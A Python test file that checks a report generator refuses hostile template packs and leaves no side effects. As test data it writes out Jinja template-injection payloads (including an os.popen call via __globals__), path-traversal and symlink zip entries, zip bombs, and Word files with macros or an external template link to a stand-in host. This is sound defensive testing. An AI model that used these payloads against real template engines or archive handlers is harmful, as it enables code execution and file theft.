"""Hostile template packs: each must be refused with a clear message and leave no trace.

Every case builds a pack in code (a folder or a zip under tmp_path) that is valid except for
one attack, installs it over an already installed good version of the same pack, and checks
that the install was refused with the expected message, that the user's store and everything
else under tmp_path are byte-for-byte unchanged, and that the marker file a successful payload
would create does not exist.  Template attacks are also tried through ``packs check`` and
``build --pack`` (where no draft may be written).
"""

from __future__ import annotations

import io
import os
import stat
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from reportgen.pack import load_pack
from test_packs import (  # the shared pack builders live in test_packs.py
    EXAMPLE,
    MANIFEST,
    make_pack,
    rewrite_docx,
    run,
    tree_digest,
    word_template_bytes,
    zip_folder,
)

UNSAFE = "模板包不安全，已拒绝"
PYTHON_INTERNALS = "模板试图访问 Python 内部对象"


@dataclass(frozen=True)
class Hostile:
    id: str
    build: Callable[[Path, Path], Path]  # (tmp_path, marker) -> the pack folder or zip to install
    message: str  # the refusal, as printed
    unsafe: bool = True  # refused as unsafe (not merely broken)
    template_attack: bool = False  # also try `packs check` and `build --pack` on the folder
    at_build: str | None = None  # the refusal by `build`, when it differs (found while rendering)


def _pack_with(files: dict[str, str | bytes], **kwargs: str) -> Callable[[Path, Path], Path]:
    def build(tmp: Path, marker: Path) -> Path:
        resolved = {k: v.replace("MARKER", str(marker)) if isinstance(v, str) else v for k, v in files.items()}
        return make_pack(tmp / "hostile" / "mini", version="2.0.0", files=resolved, **kwargs)

    return build


def _manifest_path(old: str, new: str) -> Callable[[Path, Path], Path]:
    """A pack whose pack.yaml points one template somewhere else."""
    manifest = MANIFEST.format(name="mini", version="2.0.0", word="word/template.docx", extra="")
    return _pack_with({"pack.yaml": manifest.replace(old, new)})


def _opening(text: str) -> Callable[[Path, Path], Path]:
    return _pack_with({"prose/opening.j2": text})


def _document_xml(body_text: str) -> bytes:
    """A document.xml whose body holds ``{{p body }}`` plus one more paragraph with ``body_text``."""
    data = word_template_bytes()
    xml = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    extra = f"<w:p><w:r><w:t>{body_text}</w:t></w:r></w:p>"
    return xml.replace("<w:sectPr>", extra + "<w:sectPr>", 1).encode()


def _word(changes: dict[str, bytes | None], word: str = "word/template.docx") -> Callable[[Path, Path], Path]:
    return _pack_with({word: rewrite_docx(word_template_bytes(), changes)}, word=word)


def _zip_with(entries: list[tuple[zipfile.ZipInfo | str, bytes]]) -> Callable[[Path, Path], Path]:
    """A zip holding a good pack (under mini/) plus the given extra entries."""

    def build(tmp: Path, marker: Path) -> Path:
        good = make_pack(tmp / "hostile" / "mini", version="2.0.0")
        target = zip_folder(good, tmp / "hostile.zip", "mini")
        with zipfile.ZipFile(target, "a") as zf:
            for info, data in entries:
                zf.writestr(info, data)
        return target

    return build


def _symlink_entry(name: str, target: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def _many_files(tmp: Path, marker: Path) -> Path:
    good = make_pack(tmp / "hostile" / "mini", version="2.0.0")
    target = zip_folder(good, tmp / "hostile.zip", "mini")
    with zipfile.ZipFile(target, "a") as zf:
        for n in range(600):
            zf.writestr(f"mini/prose/filler/{n}.j2", "")
    return target


def _patched_size(size: int) -> Callable[[Path, Path], Path]:
    """A zip whose central directory declares ``size`` bytes for the example profile."""

    def build(tmp: Path, marker: Path) -> Path:
        target = zip_folder(make_pack(tmp / "hostile" / "mini", version="2.0.0"), tmp / "hostile.zip", "mini")
        data = bytearray(target.read_bytes())
        offset = 0
        while (offset := data.find(b"PK\x01\x02", offset)) != -1:
            name_length = struct.unpack("<H", data[offset + 28 : offset + 30])[0]
            if data[offset + 46 : offset + 46 + name_length] == b"mini/example.yaml":
                data[offset + 24 : offset + 28] = struct.pack("<I", size)
            offset += 4
        target.write_bytes(bytes(data))
        return target

    return build


def _symlinked_folder(tmp: Path, marker: Path) -> Path:
    outside = tmp / "outside.j2"
    outside.write_text("包外的文件", encoding="utf-8")
    root = make_pack(tmp / "hostile" / "mini", version="2.0.0")
    (root / "prose" / "study.j2").unlink()
    (root / "prose" / "study.j2").symlink_to(outside)
    return root


def _symlinked_subfolder(tmp: Path, marker: Path) -> Path:
    (tmp / "elsewhere").mkdir()
    root = make_pack(tmp / "hostile" / "mini", version="2.0.0")
    (root / "linked").symlink_to(tmp / "elsewhere", target_is_directory=True)
    return root


_EXTERNAL_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://203.0.113.9/evil.dotm" TargetMode="External"/></Relationships>'
)
_MACRO_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)

HOSTILE = [
    # --- template injection in prose templates
    Hostile("ssti-mro", _opening("{{ ''.__class__.__mro__ }}"), PYTHON_INTERNALS, template_attack=True),
    Hostile("ssti-globals", _opening("{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}"),
            PYTHON_INTERNALS, template_attack=True),
    Hostile("ssti-attr-filter", _opening("{{ meta|attr('__class__') }}"), PYTHON_INTERNALS, template_attack=True),
    Hostile("ssti-attr-joined", _opening("{{ (meta|attr('_' ~ '_class_' ~ '_')) }}"), PYTHON_INTERNALS,
            template_attack=True),
    Hostile("ssti-format", _opening("{{ '%s'|format(meta._values) }}"), PYTHON_INTERNALS, template_attack=True),
    Hostile("loop-range", _opening("{% for i in range(10**9) %}党{% endfor %}"), "模板用了未声明的变量“range”",
            unsafe=False, template_attack=True, at_build="模板出错：'range' is undefined"),
    Hostile("huge-repeat", _opening("{{ '党' * 1000000000 }}"), "模板执行了不允许的操作（sequence too long）",
            template_attack=True),
    Hostile("huge-power", _opening("{{ 9 ** 999999999 }}"), "模板执行了不允许的操作（exponent too large）",
            template_attack=True),
    Hostile("huge-output", _opening("{% for c in '党' * 99999 %}{{ '建' * 99999 }}{% endfor %}"),
            "模板输出的内容过多，已中止", template_attack=True),
    Hostile("include-outside", _opening("{% include '../../outside.txt' %}"), "模板包引用了包外的路径“../../outside.txt”",
            template_attack=True),
    # --- template injection inside the Word template
    Hostile("word-ssti", _word({"word/document.xml": _document_xml("{{ body.__class__.__mro__ }}")}),
            PYTHON_INTERNALS, template_attack=True),
    Hostile("word-ssti-globals",
            _word({"word/document.xml": _document_xml("{{ title.__init__.__globals__ }}")}),
            PYTHON_INTERNALS, template_attack=True),
    Hostile("word-loop", _word({"word/document.xml": _document_xml("{% for i in range(10**9) %}x{% endfor %}")}),
            "模板出错：'range' is undefined", unsafe=False, template_attack=True),
    # --- paths leaving the pack
    Hostile("manifest-traversal", _manifest_path("prose/gap.j2", "../../outside.txt"),
            "模板包引用了包外的路径“../../outside.txt”"),
    Hostile("manifest-absolute", _manifest_path("prose/opening.j2", "/etc/hostname"),
            "模板包引用了包外的路径“/etc/hostname”"),
    Hostile("manifest-drive", _manifest_path("word/template.docx", "C:\\\\Windows\\\\evil.docx"),
            "模板包引用了包外的路径"),
    Hostile("symlink-file", _symlinked_folder, "模板包里有符号链接“prose/study.j2”"),
    Hostile("symlink-folder", _symlinked_subfolder, "模板包里有符号链接“linked”"),
    Hostile("zip-dotdot", _zip_with([("mini/../../evil.txt", b"x")]), "压缩包里有指向包外的路径“mini/../../evil.txt”"),
    Hostile("zip-absolute", _zip_with([("/tmp/evil.txt", b"x")]), "压缩包里有指向包外的路径“/tmp/evil.txt”"),
    Hostile("zip-drive", _zip_with([("C:/Windows/evil.txt", b"x")]), "压缩包里有指向包外的路径“C:/Windows/evil.txt”"),
    Hostile("zip-backslash", _zip_with([("mini\\..\\..\\evil.txt", b"x")]),
            "压缩包里有指向包外的路径“mini\\..\\..\\evil.txt”"),
    Hostile("zip-symlink", _zip_with([(_symlink_entry("mini/prose/link.j2", "/etc/passwd"), b"/etc/passwd")]),
            "压缩包里有符号链接“mini/prose/link.j2”"),
    # --- bombs
    Hostile("zip-many-files", _many_files, "模板包里的文件超过 500 个"),
    Hostile("zip-declared-size", _patched_size(0xFFFFFFF0), "模板包解压后超过 50 MB"),
    Hostile("zip-lying-size", _patched_size(10), "压缩包已损坏或格式不受支持", unsafe=False),
    # --- macros and external links in Word files
    Hostile("docm-template", _word({}, word="word/template.docm"), "Word 模板是启用宏的文档"),
    Hostile("docm-extra-file", _pack_with({"word/extra.docm": word_template_bytes()}),
            "模板包里有启用宏的 Office 文件"),
    Hostile("macro-content-type", _word({"[Content_Types].xml": _MACRO_TYPES.encode()}),
            "Word 模板是启用宏的文档（.docm/.dotm）"),
    Hostile("vba-project", _word({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}), "Word 模板含有宏或 ActiveX 控件"),
    Hostile("external-relationship", _word({"word/_rels/settings.xml.rels": _EXTERNAL_RELS.encode()}),
            "Word 模板引用了外部资源“http://203.0.113.9/evil.dotm”"),
    Hostile("extra-docx-external", _pack_with({"word/other.docx": rewrite_docx(
        word_template_bytes(), {"word/_rels/settings.xml.rels": _EXTERNAL_RELS.encode()})}),
            "Word 模板引用了外部资源“http://203.0.113.9/evil.dotm”"),
    Hostile("docx-traversal", _word({"../../evil.xml": b"<x/>"}), "Word 模板里有非法路径“../../evil.xml”"),
]


@pytest.fixture
def setup(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    """A store holding a good mini 1.0.0; returns (store, marker)."""
    home = tmp_path / "home"
    monkeypatch.setenv("REPORTGEN_HOME", str(home))
    monkeypatch.setenv("REPORTGEN_CACHE", str(tmp_path.parent / f"{tmp_path.name}-cache"))
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    (tmp_path / "outside.txt").write_text("包外的秘密", encoding="utf-8")
    assert run("packs", "install", make_pack(tmp_path / "good" / "mini")).exit_code == 0
    return home, tmp_path / "pwned"


@pytest.mark.parametrize("case", HOSTILE, ids=[c.id for c in HOSTILE])
def test_hostile_install_is_refused_without_side_effects(case: Hostile, setup: tuple[Path, Path],
                                                         tmp_path: Path) -> None:
    home, marker = setup
    source = case.build(tmp_path, marker)
    before_store, before_all = tree_digest(home), tree_digest(tmp_path)
    result = run("packs", "install", source)
    assert result.exit_code == 1
    assert case.message in result.output
    assert result.output.startswith(UNSAFE) == case.unsafe, result.output
    assert "Traceback" not in result.output
    assert tree_digest(home) == before_store
    assert tree_digest(tmp_path) == before_all
    assert not marker.exists()
    assert load_pack(home / "packs" / "mini").version == "1.0.0"


TEMPLATE_ATTACKS = [c for c in HOSTILE if c.template_attack]


@pytest.mark.parametrize("case", TEMPLATE_ATTACKS, ids=[c.id for c in TEMPLATE_ATTACKS])
def test_hostile_templates_refused_by_check_and_build(case: Hostile, setup: tuple[Path, Path],
                                                      tmp_path: Path) -> None:
    _, marker = setup
    root = case.build(tmp_path, marker)
    profile = tmp_path / "work" / "资料.yaml"
    profile.write_text(EXAMPLE.format(name="mini"), encoding="utf-8")
    before = tree_digest(tmp_path)

    checked = run("packs", "check", root)
    assert checked.exit_code == 1
    assert case.message in checked.output
    assert checked.output.startswith(UNSAFE) == case.unsafe

    built = run("build", profile, "--pack", root, "-o", tmp_path / "work" / "draft.docx")
    assert built.exit_code == 1
    assert (case.at_build or case.message) in built.output
    assert not (tmp_path / "work" / "draft.docx").exists()
    assert tree_digest(tmp_path) == before
    assert not marker.exists()


def test_endless_loop_is_stopped_by_the_time_limit(setup: tuple[Path, Path], tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    from reportgen import sandbox

    # time_limit is a contextmanager: its default number of seconds sits on the wrapped function.
    monkeypatch.setattr(sandbox.time_limit.__wrapped__, "__defaults__", (1.0,))  # type: ignore[attr-defined]
    home, marker = setup
    root = _opening("{% for a in '党' * 99999 %}{% for b in '建' * 99999 %}{% endfor %}{% endfor %}")(tmp_path, marker)
    before = tree_digest(home)
    result = run("packs", "install", root)
    assert result.exit_code == 1
    assert result.output.startswith(UNSAFE)
    assert "模板运行超时，已中止" in result.output
    assert tree_digest(home) == before


def test_a_time_limit_inside_another_leaves_the_outer_one_running() -> None:
    """A draft's prose and layout run under one limit; the steps' own limits must not cancel it."""
    import time

    from reportgen.sandbox import RenderTimeout, time_limit

    start = time.monotonic()
    with pytest.raises(RenderTimeout), time_limit(0.3):
        with time_limit(10.0):
            pass
        while time.monotonic() - start < 5:  # a pure-Python loop, as in a runaway template
            pass
    assert time.monotonic() - start < 2


def test_refused_install_into_missing_store_creates_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "deep" / "home"
    monkeypatch.setenv("REPORTGEN_HOME", str(home))
    monkeypatch.setenv("REPORTGEN_CACHE", str(tmp_path / "cache"))
    source = _opening("{{ ''.__class__ }}")(tmp_path, tmp_path / "pwned")
    result = run("packs", "install", source)
    assert result.exit_code == 1 and PYTHON_INTERNALS in result.output
    assert not (tmp_path / "deep").exists()


def test_all_problems_of_a_hostile_zip_are_listed(setup: tuple[Path, Path], tmp_path: Path) -> None:
    source = _zip_with([("mini/../evil.txt", b"x"), ("/abs.txt", b"x"),
                        (_symlink_entry("mini/link", "/"), b"/")])(tmp_path, tmp_path / "pwned")
    result = run("packs", "install", source)
    assert result.exit_code == 1
    assert "（共 3 处）" in result.output
    assert "“mini/../evil.txt”" in result.output and "“/abs.txt”" in result.output
    assert "压缩包里有符号链接“mini/link”" in result.output


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symbolic links here")
def test_pack_paths_never_leave_the_pack_through_a_link(tmp_path: Path) -> None:
    """A local pack folder (used in place, not installed) may hold links: only those that stay inside work."""
    from reportgen.errors import UnsafePackError
    from reportgen.pack import resolve_inside

    root = tmp_path / "pack"
    (root / "prose").mkdir(parents=True)
    (root / "prose" / "a.j2").write_text("甲", encoding="utf-8")
    (tmp_path / "outside.j2").write_text("包外", encoding="utf-8")
    (root / "prose" / "out.j2").symlink_to(tmp_path / "outside.j2")
    (root / "prose" / "in.j2").symlink_to(root / "prose" / "a.j2")
    (root / "elsewhere").symlink_to(tmp_path, target_is_directory=True)
    assert resolve_inside(root, "prose/a.j2") == (root / "prose" / "a.j2").resolve()
    assert resolve_inside(root, "prose/./a.j2", resolved_root=root.resolve()) == (root / "prose" / "a.j2").resolve()
    assert resolve_inside(root, "prose/in.j2") == (root / "prose" / "a.j2").resolve()
    for escaping in ("prose/out.j2", "elsewhere/outside.j2"):
        with pytest.raises(UnsafePackError, match="经符号链接指向了包外"):
            resolve_inside(root, escaping, resolved_root=root.resolve())
    with pytest.raises(UnsafePackError, match="包外的路径"):
        resolve_inside(root, "../outside.j2")

